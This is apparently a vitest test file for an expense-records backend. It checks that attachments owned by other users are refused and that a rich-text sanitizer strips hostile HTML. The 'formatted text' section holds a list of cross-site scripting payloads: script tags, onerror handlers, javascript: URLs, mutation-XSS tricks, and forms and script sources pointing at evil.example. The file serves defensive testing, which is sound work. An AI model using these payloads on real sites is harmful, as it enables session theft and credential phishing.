import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { AppError } from '../../kernel/errors.ts';
import type { RecordValues } from '../engine.ts';
import { startRecordsServer, type RecordsServer } from '../testing/records-server.ts';
import { sanitizeRichText } from './rich-text.ts';

let server: RecordsServer;
beforeAll(async () => {
  server = await startRecordsServer();
  await server.grant({ model: 'expense', buttons: ['btn_add', 'btn_edit'] }, { model: 'projectInfo' }, { model: 'user' });
});
afterAll(() => server?.stop());

let uploads = 0;

async function upload(owner: string, name = 'a.pdf'): Promise<string> {
  const id = `20260101_${String((uploads += 1)).padStart(32, '0')}.pdf`;
  await server.kernel.db.insertInto('kernel.file')
    .values({ id, kind: 'annex', name, mime: 'application/pdf', size: 1, sha256: '', owner }).execute();
  return id;
}

const entry = (fileId: string, name = 'a.pdf'): RecordValues => ({ name, fileId, url: `/api/file/Image/annex/${fileId}` });
const row = (receipts: RecordValues[], id?: unknown): RecordValues => ({ name: 'a', quantity: 1, price: 1, receipts, ...(typeof id === 'string' ? { id } : {}) });
const rows = (record: RecordValues): RecordValues[] => record['items'] as RecordValues[];
const update = (record: RecordValues, values: RecordValues): Promise<RecordValues> =>
  server.engine.update(server.actors.engineer, 'expense', String(record['id']), { version: record['version'] ?? null, ...values });

async function refused(work: Promise<unknown>): Promise<unknown> {
  const error = await work.then(() => undefined, (reason: unknown) => reason);
  if (!(error instanceof AppError)) throw new Error(`expected a refusal, got ${String(error)}`);
  return (error.data as { errors: { path: string; rule: string }[] }).errors.map(({ path, rule }) => `${path} ${rule}`);
}

describe('files', () => {
  test('of somebody else, or that nobody uploaded, are refused with their paths', async () => {
    const foreign = await upload('u-manager');
    const own = await upload('u-engineer');
    const { engineer } = server.actors;
    expect(await refused(server.expense({ files: [entry(own), entry(foreign)], items: [row([entry('20260101_nothing.pdf')])] }, engineer)))
      .toEqual(['files.1.fileId foreignFile', 'items.0.receipts.0.fileId foreignFile']);
    const record = await server.expense({ files: [entry(own)] }, engineer);
    expect(await refused(update(record, { files: [entry(own), entry(foreign)] }))).toEqual(['files.1.fileId foreignFile']);
    // An administrator has no uploads but his own either: he may open the file, not hand it to others.
    expect(await refused(server.expense({ files: [entry(foreign)] }))).toEqual(['files.0.fileId foreignFile']);
  });

  test('that were removed are gone', async () => {
    const own = await upload('u-engineer');
    await server.kernel.db.updateTable('kernel.file').set({ removed: new Date() }).where('id', '=', own).execute();
    expect(await refused(server.expense({ files: [entry(own)] }, server.actors.engineer))).toEqual(['files.0.fileId foreignFile']);
  });

  test('stay where another has put them, and move no further than their field', async () => {
    const [first, second] = [await upload('u-manager'), await upload('u-manager')];
    const record = await server.expense({ files: [entry(first), entry(second)], items: [row([entry(second)])] }, server.actors.manager);
    expect((await update(record, { files: [entry(second)] }))['files']).toEqual([entry(second)]);
    expect(await refused(update({ ...record, version: 2 }, { items: [row([entry(first)], rows(record)[0]?.['id'])] })))
      .toEqual(['items.0.receipts.0.fileId foreignFile']);
    // A copied row keeps its pictures.
    const copied = await update({ ...record, version: 2 }, { items: [rows(record)[0] ?? {}, row([entry(second)])] });
    expect(rows(copied)[1]?.['receipts']).toEqual([entry(second)]);
  });

  test('have the name and the address of the upload, whatever the client says', async () => {
    const own = await upload('u-engineer', 'contract.pdf');
    const record = await server.expense({ files: [{ name: 'salary.pdf', fileId: own, url: 'https://evil.example/x' }] }, server.actors.engineer);
    expect(record['files']).toEqual([entry(own, 'contract.pdf')]);
  });
});

describe('formatted text', () => {
  const HOSTILE = [
    '<script>steal()</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=steal()>', '<svg onload=steal()><script>steal()</script></svg>',
    '<a href="javascript:steal()">a</a>', '<a href="java\nscript:steal()">a</a>', '<a href="&#106;avascript:steal()">a</a>', '<a href=" data:text/html,<script>steal()</script>">a</a>',
    '<a href="//evil.example">a</a>', '<a href="vbscript:steal()">a</a>', '<p style="background:url(javascript:steal())">a</p>', '<style>*{display:none}</style>',
    '<iframe src="https://evil.example"></iframe>', '<object data="x"></object><embed src="x">', '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=steal()>', '<noscript><p title="</noscript><img src=x onerror=steal()>">', '<textarea><img src=x onerror=steal()></textarea>',
    '<p onclick=steal() ONMOUSEOVER="steal()">a</p>', '<b/onclick=steal()>a</b>', '<<script>script>steal()<</script>/script>', '<!--><img src=x onerror=steal()>-->',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">', '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/seen.gif">', '<img src="/api/file/Image/annex/../../oauth/Logout">', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<xmp><img src=x onerror=steal()></xmp>',
    '<a href="https://a.example" id="login" name="x" class="ant-modal">a</a>', '<template><script>steal()</script></template>', '<p>\u0000<script\u0000>steal()</script></p>'.replaceAll('\u0000', '\u000c'),
  ];
  const UNSAFE = /<\s*\/?(?:script|style|iframe|object|embed|form|input|button|svg|math|meta|base|link|textarea|template|noscript|xmp)\b|<[^>]*\s(?:on\w+|style|class|id|name|srcset|formaction)\s*=|(?:href|src)\s*=\s*"(?!https?:\/\/|mailto:|\/api\/file\/Image\/)|src="https?:/i;

  test.each(HOSTILE)('loses what could harm: %s', (html) => {
    const safe = sanitizeRichText(html);
    expect(safe).not.toMatch(UNSAFE);
    expect(sanitizeRichText(safe)).toBe(safe);
  });

  test('keeps what the editor makes', () => {
    const image = '/api/file/Image/annex/20260101_0123456789abcdef.png';
    const html = `<h2>T</h2><p>a <b>b</b> <i>c</i> <u>d</u></p><ul><li>e</li></ul><table><tbody><tr><td colspan="2">f</td></tr></tbody></table><img src="${image}" alt="g" />`;
    expect(sanitizeRichText(html)).toBe(html);
    expect(sanitizeRichText('<a href="https://a.example/?b=1">a</a>')).toBe('<a href="https://a.example/?b=1" target="_blank" rel="noopener noreferrer">a</a>');
  });

  test('is stored harmless, however it was sent', async () => {
    const record = await server.expense({ description: '<p onclick="steal()">a</p><script>steal()</script>' }, server.actors.engineer);
    expect(record['description']).toBe('<p>a</p>');
    const again = await update(record, { description: '<p>a</p><iframe src="https://evil.example"></iframe>' });
    expect(again).toMatchObject({ version: 1, description: '<p>a</p>' });
  });
});
